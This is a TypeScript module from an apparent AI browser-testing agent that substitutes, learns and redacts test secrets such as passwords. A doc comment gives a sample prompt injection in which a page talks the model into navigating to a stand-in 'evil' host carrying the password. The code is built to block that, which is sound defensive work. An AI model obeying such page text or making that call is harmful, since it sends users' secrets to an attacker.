/**
 * Where the agent meets a test's secrets (client/checks/secrets/secret-values.ts). Pure.
 * The model reads and writes `%name%`; only the arguments handed to the browser are revealed,
 * and whatever leaves the agent (steps, checks, lessons, cache entries) is redacted.
 */
import { redactStep } from "../secrets/redact-records.js";
import type { SecretValues } from "../secrets/secret-values.js";
import { TYPED_SECRET } from "../secrets/secret-values.js";
import type { StepRecord } from "./agent-loop.js";
import type { RawElement } from "./snapshot-script.js";

/**
 * The arguments revealed, by tool: only the text typed into a field and the option chosen in
 * one, which go into the page's own fields. A URL to open, a text to wait for or anything else
 * keeps `%name%` literally: a page that talks the model into `navigate("https://evil/?p=%password%")`
 * must not make the runner send the secret off-site.
 */
const REVEALED: Record<string, string> = { type: "text", select: "option" };

/** The call's arguments as the browser must receive them: `%name%` of a known secret replaced by its value where REVEALED allows. */
export function revealArgs(
  tool: string,
  args: Record<string, unknown>,
  secrets: SecretValues,
): Record<string, unknown> {
  const key = Object.hasOwn(REVEALED, tool) ? REVEALED[tool] : undefined;
  if (key === undefined) return args;
  const value = args[key];
  return typeof value === "string" ? { ...args, [key]: secrets.reveal(value) } : args;
}

export function isPasswordField(element: RawElement | undefined): boolean {
  return element?.tag === "input" && (element.type ?? "").toLowerCase() === "password";
}

/**
 * Learns a value typed into a password field, so every record of it is redacted. Returns true
 * when the value is no named secret of the spec: it is then shown as %typed_secret%, which no
 * replay could turn back into the value, so what typed it must not be cached. A value too short
 * to be learned (SecretValues.learnTyped) counts as unnamed too: it is not redacted, so it must
 * at least never be written to the action cache.
 */
export function learnPassword(value: string, secrets: SecretValues): boolean {
  if (value === "") return false;
  if (!secrets.learnTyped(value)) return true;
  return secrets.redact(value).includes(TYPED_SECRET);
}

/**
 * Hands a step to `onStep` redacted. The runner numbers the step it receives; the number is
 * copied back, since the loop names the step by it afterwards (lessons).
 */
export async function recordRedacted(
  step: StepRecord,
  secrets: SecretValues,
  onStep: (step: StepRecord) => Promise<void>,
): Promise<void> {
  const clean = redactStep(step, secrets);
  await onStep(clean);
  step.index = clean.index;
  step.screenshot = clean.screenshot;
}

/**
 * What the agent has handed out (steps, check records, lessons), kept so that a secret learned
 * later in the test, a password the spec wrote literally and the agent then typed, is redacted
 * from them in place too: the reports and the journal are written from these objects. A line
 * already streamed (the progress file) keeps what it said; naming the secret (`%name%`) avoids that.
 */
export class HandedOut {
  private readonly records: { redactNow: (secrets: SecretValues) => void }[] = [];

  /** Keeps `record`, redacted later by `redact` (one of redact-records.ts's, for its kind of record). */
  keep<T extends object>(record: T, redact: (record: T, secrets: SecretValues) => T): T {
    this.records.push({ redactNow: (secrets) => Object.assign(record, redact(record, secrets)) });
    return record;
  }

  redactAll(secrets: SecretValues): void {
    for (const record of this.records) record.redactNow(secrets);
  }
}
